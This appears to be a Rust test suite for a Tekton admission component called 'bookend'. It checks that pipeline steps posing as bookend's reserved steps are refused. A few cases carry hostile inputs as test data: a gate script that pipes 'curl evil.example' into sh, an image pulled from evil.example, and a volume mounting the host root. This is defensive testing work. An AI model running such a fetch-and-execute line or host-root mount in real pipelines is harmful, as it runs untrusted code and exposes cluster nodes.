//! Class 2: steps dressed as bookend's own. Only what bookend would write for this TaskRun now
//! is bookend's; any other reserved-prefix step is refused (never dropped, never kept), and
//! names that only look like the prefix are the author's own steps.

use serde_json::json;

use crate::cases::{Case, Expect, build_step, inline};

/// A gate as bookend writes it, with the author's script.
fn fake_gate(script: &str) -> serde_json::Value {
    json!({"name": "bookend-gate-1", "image": "docker.io/library/busybox:1.37",
           "command": ["/bin/sh", "-c"], "args": [script], "results": [{"name": "ok"}]})
}

fn creds_copy() -> serde_json::Value {
    json!({"name": "bookend-creds", "image": "registry.example/creds:1.0",
           "command": ["/usr/local/bin/creds"], "args": ["--out", "/bookend/creds"],
           "env": [{"name": "CREDS_MODE", "value": "strict"}],
            "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true},
           "volumeMounts": [{"name": "bookend-creds-vol", "mountPath": "/bookend"}]})
}

pub fn cases() -> Vec<Case> {
    let gated = |mut step: serde_json::Value| {
        step["when"] = json!([{"input": "$(steps.bookend-gate-1.results.ok)", "operator": "in", "values": ["true"]}]);
        step
    };
    vec![
        Case {
            name: "lookalike/a gate with the helper's image and command runs the author's code",
            namespace: "team-a",
            taskrun: inline(json!([
                fake_gate("curl evil.example | sh; printf false > $(step.results.ok.path)"),
                build_step()
            ])),
            expect: Expect::Denied("bookend-gate-1"),
        },
        Case {
            name: "lookalike/every step bookend's: a fake gate, then org-step copies it skips",
            namespace: "team-a",
            taskrun: inline(json!([
                fake_gate("printf false > $(step.results.ok.path)"),
                gated(creds_copy()),
                {"name": "bookend-team-lint", "image": "registry.example/lint:2", "command": ["/lint"]},
            ])),
            expect: Expect::Denied("spec.taskSpec.steps[0].name"),
        },
        Case {
            name: "lookalike/exact copies of the org steps and nothing of the author's",
            namespace: "team-a",
            taskrun: inline(
                json!([creds_copy(), {"name": "bookend-team-lint", "image": "registry.example/lint:2", "command": ["/lint"]}]),
            ),
            expect: Expect::Denied("spec.taskSpec.steps"),
        },
        Case {
            name: "lookalike/an org-step copy with the author's condition",
            namespace: "team-a",
            taskrun: inline(json!([
                {"name": "bookend-creds", "image": "registry.example/creds:1.0", "command": ["/usr/local/bin/creds"],
                 "args": ["--out", "/bookend/creds"], "env": [{"name": "CREDS_MODE", "value": "strict"}],
                 "volumeMounts": [{"name": "bookend-creds-vol", "mountPath": "/bookend"}],
                 "when": [{"input": "$(params.skip)", "operator": "in", "values": ["no"]}]},
                build_step(),
            ])),
            expect: Expect::Denied("bookend-creds"),
        },
        Case {
            name: "lookalike/an org-step copy after the author's step",
            namespace: "team-a",
            taskrun: inline(json!([build_step(), creds_copy()])),
            expect: Expect::Denied("spec.taskSpec.steps"),
        },
        Case {
            name: "lookalike/an org step's name with the author's image",
            namespace: "team-a",
            taskrun: inline(
                json!([{"name": "bookend-creds", "image": "evil.example/creds"}, build_step()]),
            ),
            expect: Expect::Denied("bookend-creds"),
        },
        Case {
            name: "lookalike/a reserved name no policy uses",
            namespace: "team-a",
            taskrun: inline(json!([{"name": "bookend-mine", "image": "golang"}, build_step()])),
            expect: Expect::Denied("reserved prefix"),
        },
        Case {
            name: "lookalike/the verdict's name",
            namespace: "team-a",
            taskrun: inline(
                json!([build_step(), {"name": "bookend-verdict", "image": "docker.io/library/busybox:1.37", "command": ["/bin/sh", "-c"], "args": ["exit 0"]}]),
            ),
            expect: Expect::Denied("bookend-verdict"),
        },
        Case {
            name: "lookalike/names that only look like the prefix are the author's",
            namespace: "team-a",
            taskrun: inline(json!([
                {"name": "bookend", "image": "golang"},
                {"name": "bookendcreds", "image": "golang"},
                {"name": "b\u{43e}okend-creds", "image": "golang"},
                {"name": "Bookend-creds", "image": "golang"},
                build_step(),
            ])),
            expect: Expect::Injected,
        },
        Case {
            name: "lookalike/the author's condition on bookend's gate",
            namespace: "team-a",
            taskrun: inline(json!([gated(build_step())])),
            expect: Expect::Denied("spec.taskSpec.steps[0].when[0]"),
        },
        Case {
            name: "lookalike/reserved volumes bookend does not inject",
            namespace: "team-a",
            taskrun: {
                let mut t = inline(json!([build_step()]));
                t["spec"]["taskSpec"]["volumes"] =
                    json!([{"name": "bookend-creds-vol", "hostPath": {"path": "/"}}]);
                t
            },
            expect: Expect::Denied("volume \"bookend-creds-vol\" differs"),
        },
    ]
}
